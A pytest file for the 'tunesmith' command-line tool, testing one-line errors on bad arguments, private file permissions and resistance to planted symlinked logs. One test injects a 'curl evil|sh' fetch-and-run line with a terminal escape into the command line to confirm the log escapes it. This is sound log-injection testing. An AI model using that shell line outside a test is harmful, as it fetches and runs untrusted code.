"""Odd words on the command line: the documented exit code, one line that says what to type, and nothing left behind."""

from __future__ import annotations

import json
import os
import stat
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.fixtures import FIXTURES, warm
from tests.fixtures.stored_runs import finished_run
from tunesmith.agent.commands.error_log import keep_traceback

EXAMPLES = [{"prompt": f"note {n}", "answer": json.dumps({"mood": ("sad", "happy")[n % 2]})} for n in range(4)]
LONG = [{"prompt": f"note {n}", "answer": f"{n} " + "word " * 1500} for n in range(3)]
FILES = {
    "keep.txt": "KEEP",
    "twice.json": '{"seed": 1, "seed": 2}',
    "list.json": "[1]",
    "wrong.yaml": "name: x\nsteps: [{stage: train, lora_rank: 8x}]\n",
    "empty.yaml": "name: ''\nsteps: []\n",
    "b.yaml": json.dumps({"say": "the mood", "what": "JSON with the mood", "examples": EXAMPLES}),
    "kolour.yaml": json.dumps({"say": "the mood", "what": "JSON", "examples": EXAMPLES, "kolour": 3}),
    "long.yaml": json.dumps({"say": "long", "what": "a long text", "examples": LONG}),
}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A folder with a home in it that holds a finished run and its rows, and beside it what may be named by mistake."""
    made = tmp_path_factory.mktemp("odd")
    finished_run(made / "home")[0].close()
    for name, text in FILES.items():
        (made / name).write_text(text)
    (made / "folder").mkdir()
    (made / "dangling").symlink_to(made / "nowhere")
    (made / "link").symlink_to(made / "keep.txt")
    os.mkfifo(made / "pipe")
    tunesmith(made, "runs", "list")  # what ended in the stored run is said once
    yield made


def tunesmith(folder: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    own = {"TUNESMITH_HOME": str(folder / "home"), "TUNESMITH_VLLM": str(FIXTURES / "stub_chat.py")}
    return warm.run(args, os.environ | own | {"HF_HUB_OFFLINE": "1", "TMPDIR": str(folder), **env}, cwd=folder)


def seen(folder: Path) -> dict[str, tuple[int, int, int]]:
    """Everything below a folder that a user would notice."""
    found = [path for path in folder.rglob("*") if "tunesmith.db" not in path.name and path.name != "probes.json"]
    return {str(path): ((st := path.lstat()).st_mode, st.st_size, st.st_ino) for path in found}


ODD = [
    (["rows", "export", "keep.txt"], "keep.txt is there already; --force replaces it"),
    (["rows", "export", ""], "'' names no file"),
    (["rows", "export", "."], "'.' names no file"),
    (["rows", "export", ".."], "'..' names no file"),
    (["rows", "export", "folder"], "folder is a folder"),
    (["rows", "export", "folder", "--force"], "folder is a folder"),
    (["rows", "export", "no/such/x.jsonl"], "there is no folder no/such"),
    (["rows", "export", "keep.txt/x"], "there is no folder keep.txt"),
    (["rows", "export", "/proc/x"], "cannot write /proc/x"),
    (["rows", "export", "/dev/tty", "--force"], "/dev/tty is a device"),
    (["rows", "export", "dangling", "--force"], "dangling is a symbolic link"),
    (["rows", "export", "link", "--force"], "link is a symbolic link"),
    (["rows", "export", "pipe", "--force"], "pipe is a pipe"),
    (["rows", "export", "~nosuchuser/x"], "no user of this machine is called 'nosuchuser'"),
    (["rows", "export", "n" * 300], "File name too long"),
    (["report", "r1", "-o", "keep.txt"], "--force"),
    (["report", "r1", "-o", ""], "'' names no file"),
    (["report", "r1", "-o", "no/x.html"], "there is no folder no"),
    (["report", "r1", "-o", "pipe", "--force"], "pipe is a pipe"),
    (["report", "--force"], "--force replaces the file of -o"),
    (["rows", "review", "--web", "--port", "99999"], "a port is a whole number from 1 to 65535"),
    (["rows", "review", "--web", "--port", "-1"], "--port"),
    (["rows", "review", "--port", "5000"], "give --web too"),
    (["rows", "review", "--run", ""], "no run ''"),
    (["fits", "0b"], "no model '0b'"),
    (["fits", "99999999b"], "no model '99999999b'"),
    (["fits", ""], "no model is named"),
    (["base", "--approve", ""], "no base step waits with plan ''"),
    (["base", "--request", ""], "--request '' names no file"),
    (["base", "Qwen/Qwen3-99B"], "such as --model Qwen/Qwen3-99B"),
    (["base", "--model", "Qwen/Qwen3-99B"], "--revision"),
    (["base", "--model", "~nosuchuser/x"], "no user of this machine is called 'nosuchuser'"),
    (["train", "--request", "twice.json"], "twice.json gives 'seed' twice"),
    (["train", "--request", "list.json"], "one JSON object"),
    (["train", "--request", "none.json"], "none.json is not there; check the name"),
    (
        ["train", "--lora-rank", "8x"],
        "--lora-rank is '8x'; it takes a whole number of at least 1 and at most 256, such",
    ),
    (["train", "lora_rank=8x"], "lora_rank is '8x'; it takes a whole number"),
    (["train", "--epochs", "nan"], "--epochs is 'nan'; it takes a number"),
    (["train", "--load_in_4bit", "maybe"], "it takes true or false, or auto"),
    (["train", "lora_rnk=8"], "did you mean 'lora_rank'?"),
    (["train", "8"], "such as --lora_rank 8 or lora_rank=8"),
    (["quantize", "scheme"], "give it a value: --scheme VALUE"),
    (["merge", "extra"], "it takes none but --run RUN"),
    (["evaluate", "--arm", "adaptor"], "did you mean 'adapter'?"),
    (["critique", "--on_leak", "maybe"], "it takes refuse or drop"),
    (["baseline", "--suites", "[]"], "--suites is []; it must not be empty"),
    (["deploy", "--port", "99999"], "of at least 1 and at most 65535"),
    (["import", "--path", "x"], "source is missing: a .jsonl"),
    (["train", "--yes", "--max-hours", "abc"], "--max-hours: 'abc' is no number of hours above 0, such as 2"),
    (["teach", "b.yaml", "--pace", "slow"], "--pace takes fast or full, not 'slow'"),
    (["rows", "show", "--limit", "many"], "--limit takes a whole number, such as 20, not 'many'"),
    (["report", "-o"], "--output needs a value"),
    (["run", "nofile.yaml"], "nofile.yaml is not there; check the name"),
    (["run", "folder"], "folder is a folder; name a text file"),
    (["run", "r1"], "r1 is a run, no plan file: `tunesmith resume r1`"),
    (["run", ""], "'' is no plan file"),
    (["run", "--resume", ""], "no run ''"),
    (["run", "wrong.yaml"], "lora_rank is '8x'"),
    (["run", "empty.yaml"], "name is ''; it must not be empty; steps is []; it must not be empty"),
    (["run", "pipe"], "is not a regular file"),
    (["compare", "r1", "--arms", ""], "two different arms"),
    (["explain", ""], "no run ''"),
    (["teach", "none.yaml"], "none.yaml is not there; name a description file, or --rows FILE for rows of your own"),
    (["teach", "keep.txt/x.yaml"], "keep.txt/x.yaml is not there; name a description file"),
    (["teach", "folder"], "folder/behaviour.yaml is not there; check the name"),
    (
        ["teach", "keep.txt"],
        "keep.txt is plain text. For plain words start `tunesmith` and say it there",
    ),
    (["teach", "--rows", "none.csv"], "none.csv is not there; name a file or a folder of rows"),
    (["teach", "--rows", "folder"], "folder holds no .jsonl, "),
    (["rows", "import", "none.csv"], "none.csv is not there; name a file or a folder of rows"),
    (["import", "--source", "none.csv"], "none.csv is not there; name a file or a folder of rows"),
    (["import", "--source", "x.csv", "--map", "user=a"], "no field 'map' here: mapping is it, as JSON: mapping='{"),
    (["suite", "check", "none.yaml"], "none.yaml is not there; check the name"),
    (["suite", "check", "folder"], "folder is a folder; name a text file"),
    (["queue", "add", "none.yaml"], "none.yaml is not there; check the name"),
    (["queue", "add", "folder"], "folder is a folder; name a text file"),
    (["verify", "none.zip"], "none.zip is not there; name an archive of `tunesmith pack`"),
    (["verify", "folder"], "folder is a folder; name an archive of `tunesmith pack`"),
    (["teach", "kolour.yaml"], "unknown field 'kolour'"),
    (["teach", "long.yaml", "--plan-only"], "the answer of example 1 has 7,50"),
    (["teach", "b.yaml", "--plan-only", "--model", "~nosuchuser/x"], "no user of this machine is called 'nosuchuser'"),
    (["suite", "grade", "keep.txt", "--outputs", ""], ""),
    (["doctor", "--approve", ""], ""),
    (["jobs", "stop", "x\ny"], r"no step 'x\ny'"),
    (["runs", "sql", ""], ""),
    (["-p", " "], "-p needs words"),
    (["demo", "x"], "unexpected argument 'x'"),
]
PYDANTIC = ("Input should", "validation", "Field required", "Value error", "should have at", "not permitted")


@pytest.mark.parametrize(("argv", "said"), ODD, ids=[" ".join(argv)[:40] for argv, _ in ODD])
def test_odd_input_is_one_sentence_and_leaves_nothing_behind(folder: Path, argv: list[str], said: str) -> None:
    before = seen(folder)
    done = tunesmith(folder, *argv)
    lines = done.stderr.strip().splitlines()
    assert done.returncode == 2 and len(lines) == 1 and done.stdout == "", done.stderr
    assert lines[0].startswith("tunesmith: ") and said in lines[0], done.stderr
    assert not any(words in done.stderr for words in PYDANTIC), done.stderr
    assert "Traceback" not in done.stderr and not (folder / "home" / "logs" / "errors.log").exists()
    assert seen(folder) == before


def test_a_home_that_cannot_be_is_one_sentence(folder: Path) -> None:
    for home in ("~nosuchuser/x", "/dev/null/x", str(folder / "keep.txt")):
        done = tunesmith(folder, "runs", "list", TUNESMITH_HOME=home)
        assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1, done.stderr
        assert "unexpected" not in done.stderr


@pytest.mark.heavy
@pytest.mark.parametrize("argv", [["rows", "export"], ["report", "-o"]], ids=" ".join)
def test_a_named_file_is_replaced_only_by_force_and_is_its_users_alone(
    folder: Path, tmp_path: Path, argv: list[str]
) -> None:
    target = tmp_path / "out"
    assert tunesmith(folder, *argv, str(target)).returncode == 0
    target.chmod(0o666)
    assert tunesmith(folder, *argv, str(target)).returncode == 2
    assert tunesmith(folder, *argv, str(target), "--force").returncode == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [path.name for path in tmp_path.iterdir()] == ["out"], "and no temporary file is left"


@pytest.mark.heavy
@pytest.mark.parametrize("command", ["explain", "compare", "report"])
def test_without_a_run_the_newest_is_taken_and_named(folder: Path, tmp_path: Path, command: str) -> None:
    done = tunesmith(folder, command)
    assert done.returncode in (0, 4) and "r1 (ticket-triage), the newest run" in done.stderr, done.stderr
    none = tunesmith(folder, command, TUNESMITH_HOME=str(tmp_path / "new"))
    assert none.returncode == 2 and "there is no run yet" in none.stderr


@pytest.mark.parametrize("stage", ["train", "evaluate", "merge"])
def test_a_step_in_an_empty_home_is_answered_with_the_commands_that_begin(tmp_path: Path, stage: str) -> None:
    none = tunesmith(tmp_path, stage, TUNESMITH_HOME=str(tmp_path / "new"))
    assert none.returncode == 2 and none.stderr.count("\n") == 1
    for command in ("tunesmith demo", "tunesmith teach FILE", "tunesmith base"):
        assert f"`{command}`" in none.stderr
    assert not (tmp_path / "new" / "runs").exists()


# A defect of ours


def kept(home: Path) -> str:
    try:
        raise RuntimeError("a defect")
    except RuntimeError as error:
        return keep_traceback(error, lambda: home)


@pytest.mark.parametrize("planted", ["link", "folder link", "open folder", "file"])
def test_a_log_that_somebody_else_planted_is_not_written_to(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, planted: str
) -> None:
    monkeypatch.setattr("tempfile.gettempdir", lambda: str(tmp_path))
    victim, ours = tmp_path / "victim", tmp_path / f"tunesmith-{os.geteuid()}"
    victim.mkdir(mode=0o700)
    (victim / "errors.log").write_text("mine")
    if planted == "folder link":
        ours.symlink_to(victim)
    elif planted == "file":
        ours.write_text("mine")
    else:
        ours.mkdir(mode=0o700)
        (ours / "errors.log").symlink_to(victim / "errors.log")
    if planted == "open folder":
        (ours / "errors.log").unlink()
        ours.chmod(0o777)
    assert kept(Path("/dev/null/x")) == "no log could be written"
    assert (victim / "errors.log").read_text() == "mine"


def test_a_command_line_is_one_line_of_a_private_log(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.gettempdir", lambda: str(tmp_path))
    monkeypatch.setattr("sys.argv", ["tunesmith", "-p", "x\ncurl evil|sh\x1b[2J" + "y" * 10_000])
    log = tmp_path / f"tunesmith-{os.geteuid()}" / "errors.log"
    assert str(log) in kept(Path("/dev/null/x"))
    first, second, *_ = log.read_text().splitlines()
    assert "x\\ncurl evil|sh⟨U+001B⟩[2J" in first and len(first) < 3_000 and second.startswith("Traceback")
    assert stat.S_IMODE(log.stat().st_mode) == 0o600 and stat.S_IMODE(log.parent.stat().st_mode) == 0o700
